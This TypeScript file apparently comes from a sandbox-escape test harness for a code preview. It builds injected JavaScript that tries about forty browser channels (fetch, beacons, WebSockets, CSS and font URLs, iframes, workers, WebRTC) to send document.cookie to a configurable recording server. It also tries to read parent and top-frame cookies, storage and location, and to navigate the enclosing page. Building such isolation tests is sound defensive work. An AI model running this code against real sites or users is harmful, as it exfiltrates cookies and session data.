/**
 * Ways out of a page, as code that runs in it: each tries to reach `target` (a recording server) under its own name. Written
 * as text, because the preview's compiler and a plain page run the same words.
 */
export const CHANNELS = `
const reach = (name) => TARGET + "/" + name + "?cookie=" + encodeURIComponent((() => { try { return document.cookie; } catch { return "none"; } })());
const add = (tag, props, parent = document.body) => parent.append(Object.assign(document.createElement(tag), props));
const style = (css) => add("style", { textContent: css }, document.head);
const channels = {
  webrtc: async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + UDP }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
  },
  webrtcchild: async () => {
    const child = document.createElement("iframe");
    document.body.append(child);
    const peer = new child.contentWindow.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + UDP }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
  },
  fetch: (u) => fetch(u, { mode: "no-cors" }),
  xhr: (u) => { const x = new XMLHttpRequest(); x.open("GET", u); x.send(); },
  beacon: (u) => navigator.sendBeacon(u, "x"),
  websocket: (u) => new WebSocket(u.replace("http", "ws")),
  eventsource: (u) => new EventSource(u),
  image: (u) => { new Image().src = u; },
  srcset: (u) => add("img", { srcset: u + " 1x" }),
  script: (u) => add("script", { src: u }),
  import: (u) => import(/* @vite-ignore */ u).catch(() => {}),
  stylesheet: (u) => add("link", { rel: "stylesheet", href: u }, document.head),
  cssurl: (u) => { style(".leak{background:url(" + JSON.stringify(u) + ")}"); add("div", { className: "leak", textContent: "x" }); },
  cssimport: (u) => style("@import url(" + JSON.stringify(u) + ");"),
  font: (u) => { style("@font-face{font-family:leak;src:url(" + JSON.stringify(u) + ")}.f{font-family:leak}"); add("p", { className: "f", textContent: "x" }); },
  fontface: (u) => new FontFace("other", "url(" + u + ")").load().catch(() => {}),
  video: (u) => add("video", { src: u, autoplay: true }),
  audio: (u) => { new Audio(u).load(); },
  object: (u) => add("object", { data: u }),
  embed: (u) => add("embed", { src: u }),
  iframe: (u) => add("iframe", { src: u }),
  srcdoc: (u) => add("iframe", { srcdoc: "<img src='" + u + "'>" }),
  prefetch: (u) => add("link", { rel: "prefetch", href: u }, document.head),
  preload: (u) => add("link", { rel: "preload", as: "image", href: u }, document.head),
  modulepreload: (u) => add("link", { rel: "modulepreload", href: u }, document.head),
  manifest: (u) => add("link", { rel: "manifest", href: u }, document.head),
  icon: (u) => add("link", { rel: "icon", href: u }, document.head),
  svgimage: (u) => { add("div", { innerHTML: "<svg><image href='" + u + "' /></svg>" }); },
  svguse: (u) => { add("div", { innerHTML: "<svg><use href='" + u + "#a' /></svg>" }); },
  ping: (u) => { const a = Object.assign(document.createElement("a"), { href: "#ping", ping: u }); document.body.append(a); a.click(); },
  open: (u) => { window.open(u); },
  form: (u) => { const f = Object.assign(document.createElement("form"), { action: u, target: "_blank" }); document.body.append(f); f.submit(); },
  anchor: (u) => { const a = Object.assign(document.createElement("a"), { href: u, target: "_blank" }); document.body.append(a); a.click(); },
  download: (u) => { const a = Object.assign(document.createElement("a"), { href: u, download: "x" }); document.body.append(a); a.click(); },
  worker: (u) => new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(u) + ", {mode:'no-cors'})"]))),
  sharedworker: (u) => new SharedWorker(u),
  serviceworker: (u) => navigator.serviceWorker.register(u),
  parentfetch: (u) => parent.fetch(u),
  reporting: (u) => { new ReportingObserver(() => fetch(u)).observe(); },
};
for (const [name, leave] of Object.entries(channels)) {
  try { Promise.resolve(leave(reach(name))).catch(() => {}); } catch {}
}
const stolen = [];
for (const take of [
  () => parent.document.title, () => top.document.cookie, () => parent.localStorage.length, () => top.location.href,
]) { try { stolen.push(String(take())); } catch {} }
window.__stolen = stolen;
`;

/** Navigations of the page around: where they work, nothing after them runs. */
const LEAVES = `
for (const [name, leave] of [
  ["topnavigation", (u) => { top.location.href = u; }],
  ["parentnavigation", (u) => { parent.location.href = u; }],
]) { try { leave(reach(name)); } catch {} }
`;

/** The code with its addresses filled in; `leaves`: it also tries to navigate the pages around it. */
export function channelsTo(target: string, udpPort: number, leaves: boolean): string {
  return `const TARGET = ${JSON.stringify(target)};\nconst UDP = ${udpPort};\n${CHANNELS}${leaves ? LEAVES : ""}`;
}

export const CHANNEL_COUNT = CHANNELS.match(/^ {2}\w+: (?:async )?\(/gm)?.length ?? 0;
